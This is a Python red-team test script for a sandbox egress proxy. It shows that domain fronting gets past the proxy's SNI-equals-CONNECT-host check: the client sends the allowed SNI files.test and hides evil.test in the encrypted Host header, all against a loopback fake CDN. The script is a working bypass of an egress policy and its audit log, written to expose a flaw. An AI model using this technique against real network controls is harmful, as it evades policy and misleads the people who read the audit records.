"""Red team: domain fronting through an allowed front passes the SNI check.

The README says an SNI that must equal the CONNECT host means "no domain fronting".
Classic domain fronting does not lie in the SNI: it sends SNI = the allowed front and
puts the real destination in the *encrypted* HTTP Host header; a CDN that routes by Host
serves the hidden origin. The proxy cannot see inside TLS, so this passes. Here a
loopback "CDN" (TLS, a certificate for files.test) routes by Host: the client, allowed
only files.test, gets evil.test's content, and the audit record says files.test.

Run: .venv/bin/python -m tests.redteam_pending.domain_fronting  (exit 1: fronting worked)
"""

from __future__ import annotations

import asyncio
import socket
import ssl
import sys
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import ip_address
from pathlib import Path

from sandbox.egress import EgressProxy, Resolver
from security import NetworkPolicy
from tests.unit.sandbox.egress.loopback import make_certificates


class CDN(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"EVIL ORIGIN\n" if self.headers["Host"] == "evil.test" else b"files origin\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


def fronted_get(proxy_port: int, cdn_port: int, ca: Path) -> bytes:
    raw = socket.create_connection(("127.0.0.1", proxy_port), timeout=5)
    raw.sendall(f"CONNECT files.test:{cdn_port} HTTP/1.1\r\n\r\n".encode())
    assert b" 200 " in raw.recv(4096)
    context = ssl.create_default_context(cafile=str(ca))
    tls = context.wrap_socket(raw, server_hostname="files.test")  # SNI: the allowed front
    tls.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
    data = b""
    while chunk := tls.recv(4096):
        data += chunk
    return data


async def main() -> int:
    certs = make_certificates(Path(tempfile.mkdtemp(prefix="redteam-front-")), ["files.test"])
    server_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server_ctx.load_cert_chain(certs.cert, certs.key)
    cdn = ThreadingHTTPServer(("127.0.0.1", 0), CDN)
    cdn.socket = server_ctx.wrap_socket(cdn.socket, server_side=True)
    threading.Thread(target=cdn.serve_forever, daemon=True).start()
    records = []
    proxy = EgressProxy(
        NetworkPolicy(allow=["files.test"]),
        Resolver({"files.test": ip_address("127.0.0.1")}),
        audit=records.append,
    )
    server = await proxy.listen_tcp()
    got = await asyncio.to_thread(
        fronted_get, server.sockets[0].getsockname()[1], cdn.server_address[1], certs.ca
    )
    await asyncio.sleep(0.2)
    print(got.split(b"\r\n\r\n", 1)[-1])
    for record in records:
        print("record:", record.method, record.host, record.port, record.decision, record.reason)
    server.close()
    cdn.shutdown()
    return 1 if b"EVIL ORIGIN" in got else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
